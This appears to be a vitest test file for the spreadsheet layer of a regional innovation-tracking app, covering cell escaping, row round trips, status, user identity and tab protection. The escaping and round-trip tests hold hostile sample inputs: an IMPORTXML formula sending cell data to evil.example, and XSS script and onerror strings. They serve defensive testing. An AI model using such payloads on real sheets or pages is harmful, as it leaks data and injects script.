// The sheets layer without a spreadsheet: layout rules, cell encoding, row ⇄ record round trips,
// status derivation, identity rules and the protection plan.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fingerprint, getRubric } from '../../src/core';
import { statusFromVerdict } from '../../src/core/integrity';
import type { Innovation } from '../../src/core/model';
import { identify } from '../../src/server/access';
import type { OpdRecord, StoredVerification, UserRecord } from '../../src/server/model';
import { layoutInput } from '../../src/server/rubric';
import { accessPlan } from '../../src/server/setup/protect';
import { RowReader, toCellText } from '../../src/server/sheets/cells';
import {
  allTables,
  HEADER_ROW,
  normalizeOpdCode,
  OPD_CODE_PATTERN,
  opdTabLayout,
  opdTabName,
} from '../../src/server/sheets/layout';
import { type InnovationMeta, innovationFromRow, innovationValues } from '../../src/server/sheets/records';
import { encodeRow, normaliseHeader, tableFromValues } from '../../src/server/sheets/table';
import { completeInnovation } from './fixtures';

const rubric = getRubric('iid-2027');
const input = layoutInput(rubric);
const opd = { code: 'DINKES', name: 'Dinas Kesehatan' };
const layout = opdTabLayout(opd, input);
const ctx = { timeZone: 'Asia/Makassar', input };

const meta: InnovationMeta = {
  revision: 3,
  status: 'submitted',
  idempotencyKey: 'key-12345678',
  fingerprint: '0123456789abcdef',
  createdBy: 'a@majene.go.id',
  createdAt: '2026-11-01T01:02:03.000Z',
  updatedBy: 'b@majene.go.id',
  updatedAt: '2026-11-02T01:02:03.000Z',
};

/** Writes a record the way Sheets would store it in plain-text cells, then reads it back. */
function roundTrip(innovation: Innovation) {
  const row = encodeRow(
    layout,
    innovationValues(innovation, meta, input),
    layout.columns.map(() => '@'),
  );
  const values = [['desc'], layout.columns.map((c) => c.header), row];
  const table = tableFromValues(layout, null, values);
  expect(table.rows).toHaveLength(1);
  return innovationFromRow(layout, table.rows[0]!, opd.code, ctx);
}

describe('layout', () => {
  it('names an OPD tab from its normalised code, capped at 30 characters', () => {
    expect(opdTabName('DINKES')).toBe('Inovasi DINKES');
    expect(opdTabName(' dinkes ')).toBe('Inovasi DINKES');
    expect(normalizeOpdCode('Dinas Kesehatan/Majene')).toBe('DINAS_KESEHATAN_MAJENE');
    expect(normalizeOpdCode('x'.repeat(50))).toHaveLength(30);
    expect(OPD_CODE_PATTERN.test('KEC-BANGGAE-TIMUR')).toBe(true);
    expect(OPD_CODE_PATTERN.test('DINAS KESEHATAN')).toBe(false);
  });

  it('gives every tab unique keys and unique headers', () => {
    for (const t of allTables([opd, { code: 'KEC-BANGGAE', name: 'Kecamatan Banggae' }], input)) {
      const keys = t.columns.map((c) => c.key);
      const headers = t.columns.map((c) => normaliseHeader(c.header));
      expect(new Set(keys).size, t.name).toBe(keys.length);
      expect(new Set(headers).size, t.name).toBe(headers.length);
    }
  });

  it('lays out an OPD tab as name and status, profile, origin, five columns per SID indicator, then the technical columns', () => {
    const headers = layout.columns.map((c) => c.header);
    expect(headers.slice(0, 2)).toEqual(['Nama inovasi', 'Status']);
    expect(headers.slice(-9)).toEqual([
      'ID',
      'Revisi',
      'Kunci pengajuan terakhir',
      'Sidik jari',
      'Segel',
      'Dibuat oleh',
      'Dibuat pada',
      'Diubah oleh',
      'Diubah pada',
    ]);
    expect(layout.columns.filter((c) => c.kind === 'timestamp').map((c) => c.key)).toEqual([
      'createdAt',
      'updatedAt',
    ]);
    for (const ind of rubric.sid.indicators) {
      const at = layout.columns.findIndex((c) => c.key === `indicators.${ind.id}.level`);
      expect(layout.columns.slice(at, at + 5).map((c) => c.kind)).toEqual([
        'level',
        'text',
        'text',
        'date',
        'text',
      ]);
    }
    expect(layout.columns.find((c) => c.key === 'stage')?.options?.map((o) => o.label)).toEqual([
      'Inisiatif',
      'Uji coba',
      'Penerapan',
    ]);
  });
});

describe('cells', () => {
  it('escapes formula-like text only where Sheets would parse it', () => {
    expect(toCellText('=IMPORTXML("http://x","//a")')).toBe('\'=IMPORTXML("http://x","//a")');
    expect(toCellText('+62 812')).toBe("'+62 812");
    expect(toCellText('- butir')).toBe("'- butir");
    expect(toCellText('@ref')).toBe("'@ref");
    expect(toCellText('biasa')).toBe('biasa');
    expect(toCellText('=1+1', '@')).toBe('=1+1');
    expect(toCellText('2025-01-02', 'General')).toBe("'2025-01-02");
  });

  it('reads dates as ISO text, also Date cells in the regency time zone and D/M/YYYY', () => {
    const cols = new Map(layout.columns.map((c) => [c.key, c]));
    const r = new RowReader(
      new Map<string, unknown>([
        ['trialDate', new Date('2025-03-16T16:30:00Z')],
        ['implementationDate', '17/03/2025'],
        ['developmentDate', '2025-02-30'],
        ['name', "'=A1"],
      ]),
      cols,
      5,
      'Asia/Makassar',
    );
    expect(r.date('trialDate')).toBe('2025-03-17');
    expect(r.date('implementationDate')).toBe('2025-03-17');
    expect(r.date('developmentDate')).toBeNull();
    expect(r.text('name')).toBe('=A1');
    expect(r.problems).toEqual([expect.stringContaining('Baris 5, kolom "Waktu pengembangan terbaru"')]);
  });
});

describe('innovation rows', () => {
  it('round-trips a complete innovation with the same fingerprint', () => {
    const original = { ...completeInnovation('DINKES'), id: 'DINKES-ABC' };
    const back = roundTrip(original);
    expect(back.problems).toEqual([]);
    expect(back.meta).toEqual({ ...meta, seal: expect.stringMatching(/^s1\.[0-9a-f]{36}$/) });
    expect(back.innovation.name).toBe(original.name);
    expect(back.innovation.indicators['16']).toEqual(original.indicators['16']);
    expect(fingerprint(back.innovation)).toBe(fingerprint(original));
  });

  it('round-trips any typed text exactly, formula-like and HTML included', () => {
    const typed = fc
      .string({ minLength: 1, maxLength: 60 })
      .map((s) => s.trim())
      .filter((s) => s !== '');
    fc.assert(
      fc.property(typed, typed, (name, goal) => {
        const back = roundTrip({ ...completeInnovation('DINKES'), id: 'DINKES-P', name, goal });
        expect(back.innovation.name).toBe(name);
        expect(back.innovation.goal).toBe(goal);
      }),
      { numRuns: 200 },
    );
    const nasty = '=IMPORTXML("https://evil.example/?q="&A1,"//x")';
    const html = '<script>alert("x")</script><img src=x onerror=alert(1)>';
    const back = roundTrip({ ...completeInnovation('DINKES'), id: 'DINKES-Q', name: nasty, goal: html });
    expect([back.innovation.name, back.innovation.goal]).toEqual([nasty, html]);
  });

  it('keeps a row with bad cells, with one problem per bad cell', () => {
    const row = encodeRow(
      layout,
      innovationValues({ ...completeInnovation('DINKES'), id: 'DINKES-R' }, meta, input),
    );
    const at = (key: string) => layout.columns.findIndex((c) => c.key === key);
    row[at('stage')] = 'Ujicoba';
    row[at('indicators.16.level')] = 7;
    row[at('trialDate')] = 'kemarin';
    const table = tableFromValues(layout, null, [[''], layout.columns.map((c) => c.header), row]);
    const back = innovationFromRow(layout, table.rows[0]!, 'DINKES', ctx);
    expect(back.innovation.id).toBe('DINKES-R');
    expect(back.problems).toHaveLength(3);
    expect(back.problems.join('\n')).toMatch(/Tahapan.*Ujicoba/);
  });

  it('finds columns by header text when someone moved them', () => {
    const values = innovationValues({ ...completeInnovation('DINKES'), id: 'DINKES-S' }, meta, input);
    const row = encodeRow(layout, values);
    const header = layout.columns.map((c) => c.header);
    const swap = (a: unknown[]) => [a[1], a[0], ...a.slice(2)];
    const table = tableFromValues(layout, null, [[''], swap(header), swap(row)]);
    expect(table.exact).toBe(false);
    expect(innovationFromRow(layout, table.rows[0]!, 'DINKES', ctx).innovation.id).toBe('DINKES-S');
    expect(HEADER_ROW).toBe(2);
  });
});

describe('status', () => {
  const v = (status: 'verified' | 'returned', fp: string, revision = 2): StoredVerification => ({
    id: 'X',
    revision,
    row: 3,
    status,
    fingerprint: fp,
    indicators: { '16': 'accepted' },
    notes: {},
  });
  it('follows the verdict while the content is unchanged', () => {
    expect(statusFromVerdict('submitted', 2, 'f1', undefined).status).toBe('submitted');
    expect(statusFromVerdict('draft', 1, 'f1', undefined).status).toBe('draft');
    expect(statusFromVerdict('submitted', 2, 'f1', v('verified', 'f1')).status).toBe('verified');
    expect(statusFromVerdict('submitted', 2, 'f1', v('returned', 'f1')).status).toBe('returned');
  });
  it('turns stale by itself when the content changed after the verdict', () => {
    const d = statusFromVerdict('submitted', 3, 'f2', v('verified', 'f1'));
    expect(d.status).toBe('reverify');
    expect(d.verification?.stale).toBe(true);
    expect(statusFromVerdict('draft', 3, 'f2', v('verified', 'f1')).status).toBe('draft');
    expect(statusFromVerdict('submitted', 3, 'f1', v('returned', 'f1', 2)).status).toBe('reverify');
  });
});

describe('identity', () => {
  const opds: OpdRecord[] = [
    { code: 'DINKES', name: 'Dinas Kesehatan', active: true },
    { code: 'DINSOS', name: 'Dinas Sosial', active: false },
  ];
  const user = (
    email: string,
    role: UserRecord['role'],
    opdCode: string | null,
    extra: Partial<UserRecord> = {},
  ) => ({
    email,
    name: email,
    role,
    opd: opdCode,
    active: true,
    ...extra,
  });
  const users: UserRecord[] = [
    user('admin@x.id', 'admin', null),
    user('op@x.id', 'operator', 'DINKES'),
    user('sos@x.id', 'operator', 'DINSOS'),
    user('off@x.id', 'operator', 'DINKES', { active: false }),
    user('bad@x.id', 'operator', 'DINKES', { problems: ['x'] }),
    user('boss@x.id', 'pimpinan', null),
  ];
  const owner = () => 'owner@x.id';
  it('gives empty and unknown identities read-only access with a reason', () => {
    expect(identify('', { users, opds }, owner)).toMatchObject({
      role: null,
      readOnlyReason: expect.any(String),
    });
    expect(identify('who@x.id', { users, opds }, owner).readOnlyReason).toContain('who@x.id');
  });
  it('refuses inactive users and makes users with problems read-only', () => {
    expect(identify('off@x.id', { users, opds }, owner).refusedReason).toContain('dinonaktifkan');
    expect(identify('bad@x.id', { users, opds }, owner).readOnlyReason).toContain('x');
  });
  it('binds an operator to an active OPD', () => {
    expect(identify('op@x.id', { users, opds }, owner)).toMatchObject({
      role: 'operator',
      readOnlyReason: null,
    });
    expect(identify('sos@x.id', { users, opds }, owner).readOnlyReason).toContain('DINSOS');
    expect(identify('boss@x.id', { users, opds }, owner).readOnlyReason).toBeTruthy();
  });
  it('makes the owner admin only while Pengguna is empty', () => {
    expect(identify('owner@x.id', { users: [], opds }, owner)).toMatchObject({
      role: 'admin',
      bootstrap: true,
    });
    expect(identify('other@x.id', { users: [], opds }, owner).role).toBeNull();
    expect(identify('owner@x.id', { users, opds }, owner).role).toBeNull();
  });
});

describe('protection plan', () => {
  it('gives each OPD tab to its operators and the admins, Verifikasi to verifikators, the rest to admins', () => {
    const users: UserRecord[] = [
      { email: 'a@x.id', name: 'A', role: 'admin', opd: null, active: true },
      { email: 'v@x.id', name: 'V', role: 'verifikator', opd: null, active: true },
      { email: 'o@x.id', name: 'O', role: 'operator', opd: 'DINKES', active: true },
      { email: 'gone@x.id', name: 'G', role: 'operator', opd: 'DINKES', active: false },
    ];
    const plan = accessPlan(users, [{ code: 'DINKES', name: 'Dinas Kesehatan', active: true }], 'run@x.id');
    const editors = Object.fromEntries(plan.map((p) => [p.tab, p.editors]));
    expect(editors['Inovasi DINKES']).toEqual(['a@x.id', 'o@x.id', 'run@x.id']);
    expect(editors.Verifikasi).toEqual(['a@x.id', 'run@x.id', 'v@x.id']);
    for (const tab of ['Ringkasan', 'Ringkasan OPD', 'Skor Inovasi', 'SPD', 'Pengaturan', 'Pengguna', 'OPD'])
      expect(editors[tab], tab).toEqual(['a@x.id', 'run@x.id']);
  });
});
